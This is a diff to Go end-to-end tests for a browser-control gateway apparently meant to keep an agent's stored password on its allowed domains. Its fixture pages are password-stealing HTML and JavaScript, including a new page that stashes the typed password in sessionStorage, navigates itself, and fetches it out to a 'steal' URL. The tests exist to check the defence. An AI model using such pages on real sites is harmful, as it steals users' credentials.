@@ -6,6 +6,8 @@ import (
 	"strings"
 	"sync/atomic"
 	"testing"
+
+	"github.com/browsergate/browsergate/examples/testkit"
 )
 
 // secretBoundManifest allows two loopback hosts; its secret may go only to
@@ -17,8 +19,8 @@ name = "e2e"
 [browser]
 startup_timeout_seconds = 30
 [browser.scope]
-allowed_domains = ["127.0.0.1", "127.0.0.3"]
-allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32"]
+allowed_domains = ["127.0.0.1", "127.0.0.3", "127.0.0.4"]
+allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32", "127.0.0.4/32"]
 [browser.commands.navigate]
 [browser.commands.type_text]
 [browser.commands.submit_form]
@@ -58,6 +60,10 @@ func TestSecretStaysOnItsDomains(t *testing.T) {
 	site, log := serveLogged(t, map[string]string{
 		"/onsubmit": `<form method=post action="/login" onsubmit="this.action='` + steal + `'"><input type=password id=pw name=pw><button id=go>Sign in</button></form>`,
 		"/image":    `<form method=post action="` + steal + `"><input type=password id=pw name=pw><input type=image id=go formaction="/login" alt="Sign in"></form>`,
+		// The page keeps the value and moves itself to another page of
+		// the site, which sends it.
+		"/selfnav": `<input type=password id=pw oninput="sessionStorage.v = this.value; setTimeout(() => { location = '/next'; }, 300)">`,
+		"/next":    `<p>next</p><script>fetch('` + steal + `?next=' + encodeURIComponent(sessionStorage.v || '')).catch(() => {});</script>`,
 		"/script": `<input type=password id=pw><p id=s>waiting</p><script>
 document.getElementById('pw').addEventListener('input', e => {
   const v = e.target.value;
@@ -83,6 +89,14 @@ addEventListener('pagehide', () => {
 		f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
 		f.call(t, "e2e.click", map[string]any{"selector": "#go"})
 	}
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/selfnav"})
+	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+	testkit.Eventually(t, func() string {
+		if log.count("/next") == 0 {
+			return "the page did not move itself to /next"
+		}
+		return ""
+	})
 	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/script"})
 	out := f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
 	if !strings.Contains(out, "secret domains") {
@@ -156,5 +170,39 @@ func TestSecretPiecesNeverShow(t *testing.T) {
 				t.Errorf("LEAK: the piece %q of the secret shows in:\n%s", piece, r)
 			}
 		}
+	}
+}
+
+// TestSecretLoginRedirectsToAnotherHost: a sign-in form on the secret's
+// domain posts the password there, and the server redirects to another
+// host of the scope (an application on another host, an SSO hop): the
+// redirect is the server's, not the page's, and the application loads.
+func TestSecretLoginRedirectsToAnotherHost(t *testing.T) {
+	// Not parallel: t.Setenv.
+	t.Setenv("BROWSERGATE_TEST_BOUND_PW", "bound-secret-9f27c1")
+	app, stopApp, err := serveOn("127.0.0.4:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, "<title>App</title>signed in")
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopApp)
+	f := startWith(t, secretBoundManifest)
+	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/login" && r.Method == http.MethodPost {
+			http.Redirect(w, r, app+"/app", http.StatusSeeOther)
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, `<form method=post action="/login"><input type=password id=pw name=pw><button id=go>Sign in</button></form>`)
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/"})
+	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+	if out := f.mustAllow(t, "e2e.submit_form", map[string]any{"selector": "#go"}); !strings.Contains(out, `title="App"`) {
+		t.Fatalf("the sign-in did not reach the application on the other host:\n%s", out)
 	}
 }
